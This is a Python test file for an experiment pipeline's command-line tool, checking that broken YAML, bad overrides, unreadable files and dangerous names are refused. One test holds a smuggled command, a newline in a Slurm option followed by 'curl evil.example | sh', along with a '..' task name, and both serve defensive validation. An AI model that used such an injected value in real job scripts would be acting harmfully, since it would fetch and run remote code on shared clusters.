"""The experiment file and its overrides: broken YAML, bad overrides, dangerous names, unreadable files.

The table in docs/faults.md lists each fault and what the user sees; keep the two in step."""

from __future__ import annotations

import errno
import os
from pathlib import Path
from typing import Any

from pipeline import cli
from tests.faults.helpers import (
    EXPERIMENT,
    _write,
    assert_user_error,
    results,
    slm,
)


def test_a_non_utf8_experiment_file_is_one_line_naming_it(tmp_path: Path, capsys) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes(f"name: caf\xe9\noutput_dir: {tmp_path / 'out'}\n".encode("latin-1"))
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not UTF-8")
    assert not (tmp_path / "out").exists()


def test_broken_yaml_syntax_names_the_file(tmp_path: Path, capsys) -> None:
    path = tmp_path / "broken.yaml"
    path.write_text(f"output_dir: {tmp_path / 'out'}\ntasks: [\n")
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), str(path), "not valid YAML")
    assert not (tmp_path / "out").exists()


def test_an_override_that_is_not_yaml_names_the_override(earlier, capsys, tmp_path: Path) -> None:
    before = results(tmp_path / "out")
    assert_user_error(*slm(capsys, "prepare", "-c", str(earlier()), "data.seed=[1"), "override 'data.seed=[1'")
    assert results(tmp_path / "out") == before


def test_a_task_named_dot_dot_is_refused_before_anything_is_written(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out")}
    raw["tasks"] = [raw["tasks"][0], {**raw["tasks"][1], "name": ".."}]
    assert_user_error(*slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw))), "tasks.1.name", "'..'")
    assert not (tmp_path / "out").exists()


def test_a_newline_in_a_slurm_value_is_refused_and_no_script_is_printed(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"),
           "slurm": {"extra_sbatch": ["--exclusive\ncurl evil.example | sh"]}}
    code = cli.main(["submit", "--dry-run", "-c", str(_write(tmp_path / "e.yaml", raw))])
    captured = capsys.readouterr()
    assert_user_error(code, captured.err, "slurm.extra_sbatch", "control character")
    assert "#SBATCH" not in captured.out and not (tmp_path / "out").exists()


def test_dtkr_groups_not_dividing_the_encoder_dim_fail_before_any_work(tmp_path: Path, capsys) -> None:
    raw = {**EXPERIMENT, "output_dir": str(tmp_path / "out"), "dtkr": {"groups": 7}}
    code, err = slm(capsys, "prepare", "-c", str(_write(tmp_path / "e.yaml", raw)))
    assert_user_error(code, err, "dtkr", "groups=7 does not divide the dimension 384", "config.json")
    assert not (tmp_path / "out").exists(), "found at config load, before prepare or any query encoding"


def test_an_unreadable_experiment_file_names_it(tmp_path: Path, capsys, monkeypatch) -> None:
    path = _write(tmp_path / "e.yaml", {**EXPERIMENT, "output_dir": str(tmp_path / "out")})
    read_text = Path.read_text

    def denied(self: Path, *args: Any, **kwargs: Any) -> str:
        if self == path:  # root reads through any mode bits, so the denial is simulated
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return read_text(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", denied)
    assert_user_error(*slm(capsys, "prepare", "-c", str(path)), f"permission denied: {path}", "ls -ld")
